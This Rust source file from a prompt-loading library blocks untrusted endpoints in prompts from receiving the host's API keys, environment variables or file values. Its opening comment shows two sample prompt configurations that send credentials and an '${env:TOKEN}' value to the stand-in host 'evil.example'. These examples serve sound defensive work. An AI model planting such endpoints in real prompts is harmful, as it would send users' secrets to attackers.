//! Decides whether an address in a prompt may receive values of the host (Prompty §2.5.1). The host
//! is the program that loads the prompt.
//!
//! A prompt may come from a stranger, who may have chosen its addresses. The host must trust the
//! origin of such an address if one of these could be sent to it:
//!
//! - *Credentials*: the key that a client has, and uses if the connection has none. According to
//!   the specification, a client sends it to the `endpoint` and the `tokenUrl` of the model's
//!   connection. So only these addresses are checked for it ([`AddressUse::Credentials`]).
//! - *Values* of `${env:…}` and `${file:…}` in the prompt. They may be sent to any address of the
//!   model or tool that receives them, so all of its addresses are checked for them. A model
//!   receives its own settings and the tools, except their connections. A tool receives its own
//!   content. Both receive all other parts of the prompt, such as the default of an input.
//!
//! For example, this connection has no key, so the client would send its own to `evil.example`:
//! `{kind: foundry, endpoint: 'https://evil.example'}`. This one has a key, but the variable would
//! be sent there: `{kind: key, apiKey: a, endpoint: 'https://evil.example', id: '${env:TOKEN}'}`.

use std::collections::HashSet;

use super::address::{
    TrustedOrigins, has_scheme, is_numeric_ipv4, is_plain_word, key_names_address,
    key_names_amount, may_be_address,
};
use super::options::LoadOptions;
use crate::definition::node::{Mapping, Node, NodeKind, Origin};
use prompty_core::diagnostic::{SourceSpan, SourceText};
use prompty_core::error::{Error, ErrorKind};

/// The kinds of connections that send no credentials, or that the host configured itself.
const HARMLESS_KINDS: [&str; 2] = ["anonymous", "reference"];

/// The keys of a connection that are addresses according to the specification.
const ADDRESS_KEYS: [&str; 2] = ["endpoint", "tokenUrl"];

/// The keys of a connection that are not addresses. Every other key may be one.
const OTHER_CONNECTION_KEYS: [&str; 2] = ["kind", "name"];

/// The keys of a model and of a tool that are not addresses according to the specification.
const MODEL_KEYS: [&str; 2] = ["id", "apiType"];
const TOOL_KEYS: [&str; 8] = [
    "name",
    "kind",
    "description",
    "bindings",
    "parameters",
    "strict",
    "approvalMode",
    "allowedTools",
];

/// The keys of an OpenAPI document that contain addresses.
const OPENAPI_ADDRESSES: [&str; 6] =
    ["servers", "host", "authorizationUrl", "tokenUrl", "refreshUrl", "openIdConnectUrl"];

/// Checks all addresses of a front matter after its references are resolved.
///
/// # Errors
///
/// Returns an error if the prompt chose an address that is not trusted, and values of the host
/// could be sent to it.
pub(super) fn check(root: &Node, source: &SourceText, options: &LoadOptions) -> Result<(), Error> {
    let listed = options.variable("PROMPTY_TRUSTED_ENDPOINTS").unwrap_or_default();
    let added = options.trusted_endpoints.iter().map(String::as_str);
    let origins = TrustedOrigins::new(added.chain(listed.split(',')));
    let guard = AddressGuard { source, origins };
    // Model and tools receive these.
    let mut common = HostValues::default();
    entries(root)
        .filter(|(key, _)| !matches!(*key, "model" | "tools"))
        .for_each(|(_, value)| common.add(value));
    let tools = root.get("tools").map(items).unwrap_or_default();
    if let Some(model) = root.get("model") {
        let mut own = HostValues::default();
        own.add(model);
        let of_tools = tools.iter().flat_map(|tool| entries(tool));
        of_tools.filter(|(key, _)| *key != "connection").for_each(|(_, value)| own.add(value));
        let addresses = PromptAddresses::in_owner(model, &MODEL_KEYS);
        let connection = model.get("connection");
        guard.check(&addresses, [&common, &own], connection, "model.connection")?;
    }
    for tool in tools {
        let mut own = HostValues::default();
        own.add(tool);
        let addresses = PromptAddresses::in_owner(tool, &TOOL_KEYS);
        // A tool's connection receives no credentials unless the prompt contains them.
        guard.check(&addresses, [&common, &own], None, "a tool's connection")?;
    }
    Ok(())
}

fn items(node: &Node) -> Vec<&Node> {
    match &node.kind {
        NodeKind::List(items) => items.iter().collect(),
        NodeKind::Map(_) => entries(node).map(|(_, value)| value).collect(),
        _ => Vec::new(),
    }
}

fn entries(node: &Node) -> impl Iterator<Item = (&str, &Node)> {
    node.as_map().into_iter().flat_map(Mapping::iter).map(|(key, entry)| (key, &entry.value))
}

/// The references of the host in a part of the prompt.
#[derive(Default)]
struct HostValues {
    has_variables: bool,
    /// The places of the references to files.
    files: HashSet<SourceSpan>,
}

impl HostValues {
    /// Adds the references in a part of the prompt.
    fn add(&mut self, node: &Node) {
        match node.origin {
            Origin::Environment => self.has_variables = true,
            // All values of a file have the place of the reference.
            Origin::File => {
                self.files.insert(node.span);
                return;
            }
            Origin::Written | Origin::Default => {}
        }
        items(node).into_iter().for_each(|item| self.add(item));
    }

    /// Whether an address must be trusted to receive these values. If the address is in a file, it
    /// may receive the values of the same file without trust, but no others.
    fn need_trust(&self, address: &PromptAddress<'_>) -> bool {
        self.has_variables || self.files.iter().any(|file| Some(*file) != address.file())
    }
}

/// An address that does not come from the host's environment.
struct PromptAddress<'n> {
    text: &'n str,
    key: &'n str,
    origin: Origin,
    span: SourceSpan,
    used_for: AddressUse,
}

/// What a client sends to an address.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
enum AddressUse {
    /// Values of the prompt, and the client's credentials: an endpoint of the specification.
    Credentials,
    /// Only values of the prompt.
    Values,
}

impl PromptAddress<'_> {
    /// The reference to the file that contains the address.
    fn file(&self) -> Option<SourceSpan> {
        (self.origin == Origin::File).then_some(self.span)
    }
}

/// What is known about the keys that lead to a value. The items of a list have those of the list.
#[derive(Clone, Copy)]
struct KeyPath<'n> {
    last: &'n str,
    /// Whether any of the keys is one of addresses: both in `url: a` and in `proxy: {http: squid}`.
    name_address: bool,
    /// As in [`PromptAddress`].
    used_for: AddressUse,
}

impl<'n> KeyPath<'n> {
    fn new(key: &'n str) -> Self {
        Self { last: key, name_address: key_names_address(key), used_for: AddressUse::Values }
    }

    /// The keys that lead to an entry of a map.
    fn with_last(self, key: &'n str) -> Self {
        Self { last: key, name_address: self.name_address || key_names_address(key), ..self }
    }
}

/// The addresses of a model or a tool.
#[derive(Default)]
struct PromptAddresses<'n> {
    found: Vec<PromptAddress<'n>>,
}

impl<'n> PromptAddresses<'n> {
    /// Finds the addresses of a model or tool. `known` lists its keys that are not addresses.
    fn in_owner(owner: &'n Node, known: &[&str]) -> Self {
        let mut addresses = Self::default();
        for (key, value) in entries(owner) {
            match key {
                "connection" => addresses.add_connection(value),
                "specification" => addresses.add_specification(value),
                "provider" | "options" => addresses.add_options(KeyPath::new(key), value),
                _ if known.contains(&key) => {}
                _ => addresses.add_entry(owner, KeyPath::new(key), value),
            }
        }
        addresses
    }

    fn add_connection(&mut self, connection: &'n Node) {
        for (key, value) in entries(connection) {
            if OTHER_CONNECTION_KEYS.contains(&key) {
                continue;
            }
            if !ADDRESS_KEYS.contains(&key) {
                self.add_entry(connection, KeyPath::new(key), value);
                continue;
            }
            let keys = KeyPath { used_for: AddressUse::Credentials, ..KeyPath::new(key) };
            match value.as_text() {
                // A client cannot send its credentials to a plain word, except for `localhost`.
                Some(text) if is_plain_word(text) && !may_be_address(text) => {
                    self.add_nonblank(KeyPath::new(key), text, value);
                }
                Some(text) => self.add_nonblank(keys, text, value),
                None => self.add_entry(connection, keys, value),
            }
        }
    }

    /// Adds the addresses in an entry of a map: its key if that is one, and those in its value.
    fn add_entry(&mut self, map: &'n Node, keys: KeyPath<'n>, value: &'n Node) {
        // A key comes from the file that its map comes from. Otherwise the author wrote it, even if
        // its value comes from a variable.
        let origin = if map.origin == Origin::File { Origin::File } else { Origin::Written };
        if may_be_address(keys.last) {
            self.found.push(PromptAddress {
                text: keys.last,
                key: keys.last,
                origin,
                span: value.span,
                used_for: keys.used_for,
            });
        }
        self.add_all(keys, value);
    }

    /// Adds the strings and numbers in a value that are addresses.
    fn add_all(&mut self, keys: KeyPath<'n>, node: &'n Node) {
        match &node.kind {
            NodeKind::Map(_) => entries(node)
                .for_each(|(key, value)| self.add_entry(node, keys.with_last(key), value)),
            NodeKind::List(items) => items.iter().for_each(|item| self.add_all(keys, item)),
            NodeKind::Text(text) => {
                let is_amount = key_names_amount(keys.last) && is_numeric_ipv4(text);
                if keys.name_address {
                    self.add_nonblank(keys, text, node);
                } else if may_be_address(text) && !is_amount {
                    self.add(keys, text, node);
                }
            }
            _ => self.add_number(keys, node, !key_names_amount(keys.last)),
        }
    }

    /// Adds the addresses in settings. Most settings are numbers or strings such as `gpt-4.1`.
    fn add_options(&mut self, keys: KeyPath<'n>, node: &'n Node) {
        match &node.kind {
            NodeKind::Map(_) => {
                entries(node).for_each(|(key, value)| self.add_options(keys.with_last(key), value));
            }
            NodeKind::List(items) => items.iter().for_each(|item| self.add_options(keys, item)),
            NodeKind::Text(text) => {
                if keys.name_address {
                    self.add_nonblank(keys, text, node);
                } else if has_scheme(text) {
                    self.add(keys, text, node);
                }
            }
            _ => self.add_number(keys, node, keys.name_address && !key_names_amount(keys.last)),
        }
    }

    /// Adds a number if clients would read its digits as an IPv4 address.
    fn add_number(&mut self, keys: KeyPath<'n>, node: &'n Node, may_be_address: bool) {
        let digits = match node.kind {
            NodeKind::Integer(number) => number.to_string(),
            NodeKind::Float(number) => number.to_string(),
            _ => return,
        };
        if may_be_address && (key_names_address(keys.last) || is_numeric_ipv4(&digits)) {
            self.add(keys, "a number", node);
        }
    }

    /// Adds the location of an OpenAPI document, or the addresses in it.
    fn add_specification(&mut self, node: &'n Node) {
        if let Some(text) = node.as_text().filter(|text| has_scheme(text)) {
            self.add(KeyPath::new("specification"), text, node);
        }
        for (key, value) in entries(node) {
            match OPENAPI_ADDRESSES.contains(&key) {
                // The description of a server is not an address, so only the keys inside decide.
                true => {
                    let name_address = key != "servers";
                    self.add_all(KeyPath { name_address, ..KeyPath::new(key) }, value);
                }
                false => self.add_specification_part(value),
            }
        }
    }

    /// Adds the addresses in a part of an OpenAPI document. Unlike the document itself, a string in
    /// it is not a location.
    fn add_specification_part(&mut self, node: &'n Node) {
        if node.as_text().is_none() {
            self.add_specification(node);
        }
        if let NodeKind::List(items) = &node.kind {
            items.iter().for_each(|item| self.add_specification_part(item));
        }
    }

    /// Adds an address, unless it is blank.
    fn add_nonblank(&mut self, keys: KeyPath<'n>, text: &'n str, node: &Node) {
        if !text.trim().is_empty() {
            self.add(keys, text, node);
        }
    }

    /// Adds an address, unless the host itself chose it by a variable.
    fn add(&mut self, keys: KeyPath<'n>, text: &'n str, node: &Node) {
        if node.origin != Origin::Environment {
            self.found.push(PromptAddress {
                text,
                key: keys.last,
                origin: node.origin,
                span: node.span,
                used_for: keys.used_for,
            });
        }
    }
}

/// Checks addresses against the trusted origins.
struct AddressGuard<'s> {
    source: &'s SourceText,
    origins: TrustedOrigins,
}

impl AddressGuard<'_> {
    /// Checks that no value of the host goes to an address that is not trusted. `connection` is the
    /// one whose client may use credentials of the host.
    fn check(
        &self,
        addresses: &PromptAddresses<'_>,
        received: [&HostValues; 2],
        connection: Option<&Node>,
        what: &str,
    ) -> Result<(), Error> {
        for address in &addresses.found {
            if self.origins.contain(address.text) {
                continue;
            }
            let is_sent_values = received.iter().any(|values| values.need_trust(address));
            let is_sent_credentials = address.used_for == AddressUse::Credentials
                && connection.is_some_and(|connection| gets_host_credentials(connection, address));
            let (sent, help) = match (is_sent_credentials, is_sent_values) {
                (true, _) => (
                    "credentials",
                    "read the address from the environment, set a key for the connection, or trust the origin \
                     with `LoadOptions::with_trusted_endpoint` or `PROMPTY_TRUSTED_ENDPOINTS`",
                ),
                (false, true) => (
                    "variables and files",
                    "read the address from the environment, or trust the origin with \
                     `LoadOptions::with_trusted_endpoint` or `PROMPTY_TRUSTED_ENDPOINTS`",
                ),
                (false, false) => continue,
            };
            let PromptAddress { text, key, span, .. } = address;
            let message = format!(
                "untrusted endpoint `{text}` in `{key}` of {what}: \
                 the host's {sent} would be sent to it"
            );
            return Err(Error::new(ErrorKind::UntrustedEndpoint, message)
                .with_place(self.source.place(span.start))
                .with_help(help));
        }
        Ok(())
    }
}

/// Whether a client would send the host's credentials to an address of a connection.
fn gets_host_credentials(connection: &Node, address: &PromptAddress<'_>) -> bool {
    let kind = connection.get("kind").and_then(Node::as_text).unwrap_or_default();
    if HARMLESS_KINDS.contains(&kind) {
        return false;
    }
    // A connection of another kind does not use the prompt's key.
    if kind != "key" {
        return true;
    }
    let Some(key) = connection.get("apiKey") else { return true };
    // A key from a variable or a file belongs to the host, unless the address is in the same file.
    if key.origin.is_host() && address.file() != Some(key.span) {
        return true;
    }
    key.as_text().is_none_or(|key| key.trim().is_empty())
}
